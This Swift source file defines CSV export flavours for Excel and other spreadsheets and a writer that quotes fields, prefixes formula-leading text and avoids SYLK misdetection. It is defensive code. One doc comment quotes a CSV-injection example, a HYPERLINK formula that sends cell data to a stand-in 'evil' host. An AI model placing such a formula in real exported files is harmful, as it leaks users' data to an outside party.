/// CSV flavours: what opens correctly in Excel.
///
/// Excel opens a double-clicked CSV file with the list separator and decimal separator of the Windows region
/// settings, and reads it as UTF-8 only when it starts with a byte order mark. In Russian settings the list
/// separator is ";" and the decimal separator ",", so a comma-separated file lands in one column there. Hence two
/// flavours: one for Russian Excel, one for everything else.
public enum CSVFlavor: String, Sendable, CaseIterable {
    /// UTF-8 with a byte order mark, comma-separated, CRLF line ends, dates as `YYYY-MM-DD`, decimal point
    /// (`123.45`), percentages as `25%`: for LibreOffice, Google Sheets, Numbers, scripts, and Excel in
    /// English-language settings or through its import wizard.
    case utf8 = "utf8"
    /// Windows-1251, semicolon-separated, CRLF line ends, dates as `DD.MM.YYYY`, decimal comma (`123,45`),
    /// percentages as `25%` / `12,5%`: what Excel on Windows in Russian settings reads correctly on
    /// double-click. Characters Windows-1251 lacks (emoji, most accented Latin letters, CJK) become `?`; choose
    /// ``utf8`` when the data may hold them.
    case excelWindows = "excel"

    /// The field separator.
    var delimiter: Unicode.Scalar {
        switch self {
        case .utf8: ","
        case .excelWindows: ";"
        }
    }

    /// The decimal separator for decimals and percentages.
    var decimalSeparator: Character {
        switch self {
        case .utf8: "."
        case .excelWindows: ","
        }
    }

    /// The bytes that start a file.
    var byteOrderMark: [UInt8] {
        switch self {
        case .utf8: [0xEF, 0xBB, 0xBF]
        case .excelWindows: []
        }
    }

    /// Text in the flavour's encoding.
    func encode(_ text: String) -> [UInt8] {
        switch self {
        case .utf8: Array(text.utf8)
        case .excelWindows: Windows1251.encode(text)
        }
    }
}

/// Writes tables as CSV (RFC 4180) that spreadsheets open correctly and safely.
///
/// - Fields holding the separator, a double quote, CR or LF are quoted, with quotes doubled.
/// - Text starting with `=`, `+`, `-`, `@`, a tab or CR gets a leading `'`. Spreadsheets evaluate such a field
///   as a formula when the file is opened, so a contact named `=HYPERLINK("http://evil/?"&A1)` could send
///   data elsewhere or run commands (CSV injection; OWASP's advice is this prefix). The cost is visible: a
///   phone typed as `+7 912 …` reads `'+7 912 …` in the CSV. Numbers, dates and percentages are typed cells
///   and are never prefixed. (XLSX needs none of this: its text cells are never evaluated.)
/// - Every record ends with CRLF, the last one too. Short rows are padded with empty fields to the header's
///   width so that every record has the same number of fields; longer rows are written in full.
public enum CSVWriter {
    /// Encodes a whole table: the header row, then the rows.
    /// - Parameters:
    ///   - table: the table; its title is not written (CSV has no place for it).
    ///   - flavor: the encoding, separators and date style.
    /// - Returns: the file's bytes, starting with a byte order mark in the ``CSVFlavor/utf8`` flavour.
    public static func encode(_ table: Table, flavor: CSVFlavor) -> [UInt8] {
        var stream = Stream(columns: table.columns, flavor: flavor)
        var bytes = stream.header()
        for row in table.rows {
            bytes += stream.row(row)
        }
        return bytes
    }

    /// Streaming: header first, then rows as they come, for exports of a million rows in bounded memory.
    ///
    /// The concatenation of everything it returns equals ``CSVWriter/encode(_:flavor:)`` of the same table.
    public struct Stream: Hashable, Sendable {
        /// The header row.
        public let columns: [String]
        /// The encoding, separators and date style.
        public let flavor: CSVFlavor
        private var headerWritten = false
        // Excel takes a file starting with the letters "ID" for a SYLK file and refuses it; only the first field
        // of a file without a byte order mark can start it.
        private var atStartOfFile = true

        /// Starts a CSV file.
        /// - Parameters:
        ///   - columns: the header row.
        ///   - flavor: the encoding, separators and date style.
        public init(columns: [String], flavor: CSVFlavor) {
            self.columns = columns
            self.flavor = flavor
        }

        /// The start of the file: the byte order mark (in the ``CSVFlavor/utf8`` flavour) and the header record
        /// (none when there are no columns). Empty when already returned, here or by the first ``row(_:)``.
        public mutating func header() -> [UInt8] {
            guard !headerWritten else { return [] }
            headerWritten = true
            var bytes = flavor.byteOrderMark
            if !columns.isEmpty {
                bytes += record(columns.map { TableCell.text($0) })
            }
            return bytes
        }

        /// One record, preceded by the header if that has not been returned yet.
        /// - Parameter cells: the row's cells.
        /// - Returns: the bytes to append to the file.
        public mutating func row(_ cells: [TableCell]) -> [UInt8] {
            var bytes = header()
            let padding = max(0, columns.count - cells.count)
            bytes += record(cells + repeatElement(.empty, count: padding))
            return bytes
        }

        private mutating func record(_ cells: [TableCell]) -> [UInt8] {
            var line = ""
            for (index, cell) in cells.enumerated() {
                if index > 0 { line.unicodeScalars.append(flavor.delimiter) }
                let guardSYLK = atStartOfFile && index == 0 && flavor.byteOrderMark.isEmpty
                line += field(cell, forceQuotes: guardSYLK)
            }
            line += "\r\n"
            atStartOfFile = false
            return flavor.encode(line)
        }

        private func field(_ cell: TableCell, forceQuotes: Bool) -> String {
            switch cell {
            case .text(let text):
                return quoted(neutralized(text), force: forceQuotes && text.hasPrefix("ID"))
            case .integer(let value):
                return String(value)
            case .decimal(let units, let fractionDigits):
                return NumberText.decimal(units, fractionDigits: fractionDigits, separator: flavor.decimalSeparator)
            case .percent(let share):
                return NumberText.percentage(share, separator: flavor.decimalSeparator).map { $0 + "%" } ?? ""
            case .date(let date):
                switch flavor {
                case .utf8: return "\(padded(date.year, 4))-\(padded(date.month, 2))-\(padded(date.day, 2))"
                case .excelWindows: return "\(padded(date.day, 2)).\(padded(date.month, 2)).\(padded(date.year, 4))"
                }
            case .empty:
                return ""
            }
        }

        private func neutralized(_ text: String) -> String {
            guard let first = text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return text }
            return "'" + text
        }

        private func quoted(_ text: String, force: Bool) -> String {
            let needsQuotes = force || text.unicodeScalars.contains { $0 == flavor.delimiter || $0 == "\"" || $0 == "\r" || $0 == "\n" }
            guard needsQuotes else { return text }
            var result = "\""
            for scalar in text.unicodeScalars {
                if scalar == "\"" { result.unicodeScalars.append("\"") }
                result.unicodeScalars.append(scalar)
            }
            result += "\""
            return result
        }

        private func padded(_ number: Int, _ width: Int) -> String {
            let digits = String(number)
            return String(repeating: "0", count: max(0, width - digits.count)) + digits
        }
    }
}
